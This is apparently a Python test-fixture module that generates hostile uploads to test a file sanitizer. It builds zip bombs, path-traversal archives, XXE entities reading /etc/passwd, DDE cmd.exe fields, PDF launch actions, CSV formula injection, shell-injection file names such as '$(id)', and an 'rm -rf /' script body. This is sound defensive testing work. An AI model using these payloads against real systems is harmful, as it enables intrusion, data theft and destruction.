"""Three hundred files that mean harm, made here, with the bytes that no clean copy may hold."""

import base64
import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MARK = b"HARM-4471"
"""Stands for whatever a payload is; a clean copy never has it."""
RTL, ZERO = "\u202e", "\u200b"
TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package'
    b'/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
DOCUMENT = b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w"><w:body/></w:document>'
SCRIPT = b"<script>alert('" + MARK + b"')</script>"


@dataclass(frozen=True)
class Hostile:
    """A file that somebody sends, and whether it is refused whatever the scanner says."""

    kind: str
    name: str
    content: bytes
    refused: bool = True


def zipped(parts, compress=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as whole:
        for name, raw in parts.items():
            whole.writestr(name, raw)
    return out.getvalue()


def docx(more=(), document=DOCUMENT, types=TYPES):
    return zipped({"[Content_Types].xml": types, "word/document.xml": document, **dict(more)})


def picture(kind="PNG", size=(40, 30), **more):
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, kind, **more)
    return out.getvalue()


def pdf(change=lambda whole: None):
    whole = pikepdf.new()
    whole.add_blank_page(page_size=(200, 200))
    change(whole)
    out = io.BytesIO()
    whole.save(out)
    return out.getvalue()


def hostile() -> Iterator[Hostile]:
    """All of them."""
    for make in (
        malware,
        bombs,
        archives,
        polyglots,
        xml,
        markup,
        floods,
        names,
        acting_pdfs,
        told_in_pdfs,
        formulas,
        broken,
        photographs,
        programs,
    ):
        yield from make()


def malware():
    for name in ("eicar.txt", "eicar.com", "photo.jpg", "report.docx"):
        yield Hostile("EICAR", name, EICAR, refused=False)
        yield Hostile("EICAR with a line", name, b"Hello\n" + EICAR + b"\n", refused=False)
        yield Hostile("EICAR in a zip", name, zipped({"eicar.com": EICAR}))
        yield Hostile("EICAR in a docx", name, docx({"word/embeddings/e.bin": EICAR}))


def bombs():
    for size in (1, 5, 20, 80):
        big = bytes(size * 2**20)
        yield Hostile("zip bomb", "b.docx", docx({"word/media/a.xml": big}))
        yield Hostile(
            "zip bomb of many", "b.docx", docx({f"word/{n}.xml": big[: 2**20] for n in range(size)})
        )
        yield Hostile("gzip bomb", "b.gz", gzip.compress(big, mtime=0))
        yield Hostile("zip in zip", "b.xlsx", zipped({"a.zip": zipped({"b": big})}))
    yield Hostile(
        "too many parts", "b.docx", docx({f"word/p{n}.xml": b"<a/>" for n in range(1_200)})
    )
    lying = bytearray(docx({"word/a.xml": bytes(9_000)}))
    at = lying.rindex(b"PK\x01\x02")
    for place in range(at, max(0, at - 400), -40):
        other = bytearray(lying)
        other[place : place + 4] = struct.pack("<L", 0x7FFFFFFF)
        yield Hostile("zip that lies", "b.docx", bytes(other))


def archives():
    for name in (
        "../../etc/passwd",
        "..\\..\\x.dll",
        "/etc/cron.d/x",
        "C:\\x.exe",
        "word/../../x",
        "a/\x01b",
        f"word/{RTL}fdp.exe",
    ):
        yield Hostile("zip slip", "a.docx", docx({name: b"x"}))
        yield Hostile("zip slip alone", "a.zip", zipped({name: b"x"}))
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as whole:
        whole.writestr("[Content_Types].xml", TYPES)
        whole.writestr("word/document.xml", DOCUMENT)
        whole.writestr(link, "/etc/passwd")
    yield Hostile("symlink in a zip", "a.docx", out.getvalue())
    for mode in ("w", "w:gz", "w:bz2", "w:xz"):
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode=mode) as tar:
            entry = tarfile.TarInfo("../../x")
            entry.size = 1
            tar.addfile(entry, io.BytesIO(b"x"))
        yield Hostile("tar slip", "a.tar", packed.getvalue())
    for head in (
        b"Rar!\x1a\x07\x00",
        b"Rar!\x1a\x07\x01\x00",
        b"7z\xbc\xaf\x27\x1c",
        b"\xfd7zXZ\x00",
        b"BZh9",
        b"\x1f\x8b\x08\x00",
        b"MSCF",
        b"ITSF",
    ):
        yield Hostile("another archive", "a.docx", head + random.Random(1).randbytes(500))


def polyglots():
    for kind, ending in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp")):
        raw = picture(kind)
        tails = {
            "zip": zipped({"x.js": MARK}, zipfile.ZIP_STORED),
            "html": b"<html>" + SCRIPT,
            "php": b"<?php system('" + MARK + b"');?>",
            "pdf": b"%PDF-1.4\n" + MARK,
            "exe": b"MZ\x90\x00" + MARK,
        }
        for name, tail in tails.items():
            yield Hostile(f"{kind} and {name}", f"p.{ending}", raw + tail, refused=False)
            yield Hostile(f"{kind} and {name}, named so", f"p.{name}", raw + tail, refused=False)
    for name, tail in (("zip", zipped({"x": MARK}, 0)), ("html", SCRIPT), ("exe", b"MZ" + MARK)):
        yield Hostile(f"PDF and {name}", "p.pdf", pdf() + tail, refused=False)
    for head in (
        b"GIF89a=1;" + SCRIPT,
        b"%PDF-1.4\n" + SCRIPT,
        b"\xff\xd8\xff\xe0" + SCRIPT,
        b"\x89PNG\r\n\x1a\n" + SCRIPT,
        b"RIFF\x00\x01\x00\x00WEBP" + SCRIPT,
    ):
        yield Hostile("a head and a script", "p.gif", head)


def xml():
    entities = (
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd">',
        b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        b'<!doctype a [<!entity % x SYSTEM "php://filter/x">%x;]>',
        b"<! ENTITY x 'y'>",
    )
    places = (
        "word/document.xml",
        "word/styles.xml",
        "docProps/core.xml",
        "word/_rels/document.xml.rels",
    )
    for entity in entities:
        for place in places:
            raw = b'<?xml version="1.0" encoding="UTF-8"?>' + entity + b"<a>&x;</a>"
            yield Hostile(
                "XXE docx",
                "x.docx",
                docx({place: raw}) if place != places[0] else docx(document=raw),
            )
        wide = ('<?xml version="1.0" encoding="UTF-16"?>' + entity.decode() + "<a/>").encode(
            "utf-16"
        )
        yield Hostile("XXE in another encoding", "x.docx", docx({"word/styles.xml": wide}))
        yield Hostile("XXE alone", "x.xml", b'<?xml version="1.0"?>' + entity + b"<a/>")
    for kind in ("attachedTemplate", "oleObject", "image", "frame", "subDocument"):
        rel = (
            b'<Relationships><Relationship Id="1" Type="http://schemas/relationships/%s" '
            b'Target="http://192.0.2.1/x" TargetMode="External"/></Relationships>' % kind.encode()
        )
        yield Hostile("docx that fetches", "x.docx", docx({"word/_rels/settings.xml.rels": rel}))
    for field in (
        b"DDEAUTO c:\\\\cmd.exe",
        b"DDE x y",
        b"INCLUDETEXT \\\\192.0.2.1\\x",
        b"INCLUDEPICTURE x",
    ):
        yield Hostile(
            "docx with a field",
            "x.docx",
            docx(document=b"<w:instrText> " + field + b"</w:instrText>"),
        )
    for part in (
        "word/vbaProject.bin",
        "word/activeX/activeX1.xml",
        "xl/macrosheets/s.xml",
        "word/embeddings/oleObject1.bin",
        "customUI/customUI.xml",
        "word/media/a.svg",
        "word/media/x.exe",
        "xl/externalLinks/e.xml",
        "Basic/Standard/m.xml",
    ):
        yield Hostile("docx that acts", "x.docx", docx({part: MARK}))
    macro = TYPES.replace(
        b"application/xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    yield Hostile("docx that acts", "x.docx", docx(types=macro))
    yield Hostile("two office files in one", "x.docx", docx({"xl/workbook.xml": b"<a/>"}))


def markup():
    bodies = (
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        b'<svg><image href="http://192.0.2.1/"/></svg>',
        b"<html>" + SCRIPT + b"</html>",
        b"<!DOCTYPE html><body onload=x>",
        b" \n\t<SCRIPT>x</SCRIPT>",
        b"\xef\xbb\xbf<svg/>",
        b"{\\rtf1\\object\\objdata 01}",
        b"#!/bin/sh\nrm -rf /\n",
        b"[InternetShortcut]\nURL=file://192.0.2.1/x\n",
        b"%!PS\n(%pipe%id) (r) file\n",
    )
    for body in bodies:
        for name in ("a.svg", "a.png", "a.txt"):
            yield Hostile("markup", name, body)


def floods():
    for width, height in (
        (65_000, 65_000),
        (30_000, 30_000),
        (1, 60_000),
        (50_000, 900),
        (20_000, 5_000),
    ):
        head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
        chunks = b"".join(
            struct.pack(">L", len(raw)) + name + raw + struct.pack(">L", zlib.crc32(name + raw))
            for name, raw in (
                (b"IHDR", head),
                (b"IDAT", zlib.compress(bytes(min(width * 3 + 1, 90_000)) * 20, 9)),
                (b"IEND", b""),
            )
        )
        yield Hostile("pixel flood", "f.png", b"\x89PNG\r\n\x1a\n" + chunks)
    small = bytearray(picture("JPEG"))
    at = small.index(b"\xff\xc0")
    for size in (65_000, 65_535, 40_000, 20_000):
        other = bytearray(small)
        other[at + 5 : at + 9] = struct.pack(">HH", size, size)
        yield Hostile("pixel flood", "f.jpg", bytes(other))
    gif = bytearray(picture("GIF"))
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield Hostile("pixel flood", "f.gif", bytes(gif))
    text = zlib.compress(b"a" * 2**26, 9)
    raw = picture()
    for name in (b"zTXt", b"iCCP"):
        body = b"a\0\0" + text
        chunk = (
            struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))
        )
        yield Hostile("a text that swells", "f.png", raw[:33] + chunk + raw[33:], refused=False)


def names():
    for name in (
        f"photo{RTL}gpj.exe",
        "a\0.png",
        "../../a.png",
        "C:\\x\\a.png",
        "CON",
        "a" * 900 + ".png",
        f"a{ZERO}.png",
        "<b>.png",
        "a\r\nSet-Cookie: x=1.png",
        ".",
        "",
        "..",
        ".htaccess",
        "a.png;.php",
        "`id`.png",
        "$(id).png",
        "a.png.exe",
        "\u2028.png",
        "a\x1b[31m.png",
    ):
        yield Hostile("a name", name, picture(), refused=False)


def acting_pdfs():
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(MARK.decode()))

    def named(whole):
        whole.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", js]))

    def on_open(whole):
        whole.Root.OpenAction = js

    def on_page(whole):
        whole.pages[0].AA = pikepdf.Dictionary(O=js)

    def link(whole):
        note = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=js)
        whole.pages[0].Annots = pikepdf.Array([note])

    def attached(whole):
        whole.attachments["x.exe"] = b"MZ" + MARK

    def form(whole):
        whole.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(whole, MARK), Fields=[])

    def maker(whole):
        whole.docinfo["/Author"] = MARK.decode()
        with whole.open_metadata() as told:
            told["dc:creator"] = [MARK.decode()]

    def launch(whole):
        whole.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String(MARK.decode())
        )

    def fetch(whole):
        whole.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String(MARK.decode())
        )

    def away(whole):
        whole.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.GoToR, F=pikepdf.String(MARK.decode())
        )

    changes = (named, on_open, on_page, link, attached, form, maker, launch, fetch, away)
    for change in changes:
        yield Hostile("PDF that acts", f"{change.__name__}.pdf", pdf(change), refused=False)
        for other in changes[:3]:
            raw = pdf(lambda whole, one=change, two=other: (one(whole), two(whole)))
            yield Hostile("PDF that acts twice", "two.pdf", raw, refused=False)
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as whole:
        whole.save(locked, encryption=pikepdf.Encryption(owner="a", user="b"))
    yield Hostile("locked PDF", "l.pdf", locked.getvalue())
    yield Hostile(
        "too many pages", "m.pdf", pdf(lambda w: [w.add_blank_page() for _ in range(400)])
    )
    for tail in (
        b"",
        b"\n%%EOF",
        b"trailer<</Root 1 0 R>>",
        b"1 0 obj<</Kids[1 0 R]/Type/Pages>>endobj",
    ):
        yield Hostile("no real PDF", "n.pdf", b"%PDF-1.7\n" + tail)


def photograph_of_a_pdf(kind="JPEG", pack=lambda raw: raw, filters=("DCTDecode",), **more):
    """A PDF whose page shows a picture that tells more than its pixels."""
    raw = picture(kind, **more)

    def shown(whole):
        seen = pikepdf.Stream(whole, pack(raw))
        seen.Type, seen.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        seen.Width, seen.Height, seen.BitsPerComponent = 40, 30, 8
        seen.ColorSpace = pikepdf.Name.DeviceRGB
        seen.Filter = pikepdf.Array([pikepdf.Name(f"/{one}") for one in filters])
        if len(filters) == 1:
            seen.Filter = seen.Filter[0]
        page = whole.pages[0]
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=whole.make_indirect(seen)))
        page.Contents = pikepdf.Stream(whole, b"q 200 0 0 200 0 0 cm /P Do Q")

    return pdf(shown)


def told_by_a_camera():
    told = Image.Exif()
    told[0x010F] = MARK.decode()
    told[0x8825] = {1: "N", 2: (53.0, 58.0, MARK[0] * 1.0), 29: MARK.decode()}
    told[0x9286] = MARK
    return told


def told_in_pdfs():
    told = {"exif": told_by_a_camera(), "comment": MARK, "xmp": MARK}
    ways = {
        "plain": {},
        "packed": {"pack": zlib.compress, "filters": ("FlateDecode", "DCTDecode")},
        "in letters": {
            "pack": lambda raw: base64.a85encode(raw) + b"~>",
            "filters": ("ASCII85Decode", "DCTDecode"),
        },
        "in figures": {
            "pack": lambda raw: raw.hex().encode() + b">",
            "filters": ("ASCIIHexDecode", "DCTDecode"),
        },
        "in steps": {"progressive": True},
        "of a press": {"pack": lambda raw: raw[:2] + b"\xff\xed\x00\x0b" + MARK + raw[2:]},
        "with a tail": {"pack": lambda raw: raw + MARK},
    }
    for name, way in ways.items():
        raw = photograph_of_a_pdf(**told, **way)
        yield Hostile("a photograph in a PDF that tells", f"{name}.pdf", raw, refused=False)
    boxed = {"kind": "JPEG2000", "filters": ("JPXDecode",)}
    beside = struct.pack(">L", 8 + len(MARK)) + b"xml " + MARK
    raw = photograph_of_a_pdf(pack=lambda raw: raw + beside, **boxed)
    yield Hostile("a photograph in a PDF that tells", "boxed.pdf", raw, refused=False)
    bomb = {
        "pack": lambda raw: zlib.compress(raw + bytes(2**28)),
        "filters": ways["packed"]["filters"],
    }
    yield Hostile("a photograph in a PDF that swells", "bomb.pdf", photograph_of_a_pdf(**bomb))
    for cut in (5, 30, 400):
        raw = photograph_of_a_pdf(pack=lambda raw, cut=cut: b"\xff\xd8" + raw[cut:])
        yield Hostile("a photograph in a PDF that is none", "none.pdf", raw)


def formulas():
    for start in ("=", "+", "-", "@", "\t=", " =", '"=', "|", "'="):
        body = f"{start}cmd|' /C calc'!A0,ok\nok,{start}HYPERLINK(1)\n"
        yield Hostile("CSV formula", "f.csv", body.encode(), refused=False)


def broken():
    whole = {"b.png": picture(), "b.jpg": picture("JPEG"), "b.pdf": pdf(), "b.docx": docx()}
    for name, raw in whole.items():
        for share in (0.3, 0.6, 0.9):
            yield Hostile("cut short", name, raw[: int(len(raw) * share)], refused=name != "b.pdf")
    packed = gzip.compress(b"a" * 9_000, mtime=0)
    for cut in (5, 12, len(packed) - 4):
        yield Hostile("broken gzip", "b.gz", packed[:cut])
    yield Hostile("empty", "e.png", b"")
    draw = random.Random(3)
    for size in (1, 20, 5_000):
        yield Hostile("noise", "n.bin", b"\x00" + draw.randbytes(size))
        yield Hostile("noise after a head", "n.png", b"\x89PNG\r\n\x1a\n" + draw.randbytes(size))
        yield Hostile("noise after a head", "n.pdf", b"%PDF-1.4" + draw.randbytes(size))
        yield Hostile("noise after a head", "n.docx", b"PK\x03\x04" + draw.randbytes(size))


def photographs():
    for kind, name in (("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp")):
        told = picture(kind, exif=told_by_a_camera())
        yield Hostile("a photograph that tells", name, told, refused=False)
        yield Hostile(
            "a photograph that tells", name, picture(kind, icc_profile=MARK * 20), refused=False
        )
    yield Hostile("a photograph that tells", "c.jpg", picture("JPEG", comment=MARK), refused=False)
    yield Hostile("a photograph that tells", "x.jpg", picture("JPEG", xmp=MARK), refused=False)


def programs():
    heads = (
        b"MZ\x90\x00",
        b"\x7fELF\x02\x01\x01",
        b"\xca\xfe\xba\xbe",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"L\x00\x00\x00\x01\x14\x02\x00",
        b"dex\n035\x00",
        b"\x00asm\x01\x00\x00\x00",
        b"!<arch>\n\x00",
        b"SQLite format 3\x00",
        b"\x30\x82\x03\x00",
        b"FWS\x09\x00",
        b"wOF2\x00",
        b"OTTO\x00",
        b"\x00\x00\x01\x00\x01\x00",
        b"BM\x00\x00\x00\x00",
        b"II*\x00",
        b"MM\x00*",
        b"8BPS\x00\x01",
        b"\x00\x00\x00\x0cjP  ",
        b"\x00\x00\x00\x20ftypheic",
        b"\x00\x00\x00\x20ftypavif",
    )
    for head in heads:
        for name in ("a.exe", "a.jpg"):
            yield Hostile("a program, or a kind that is not taken", name, head + MARK * 20)
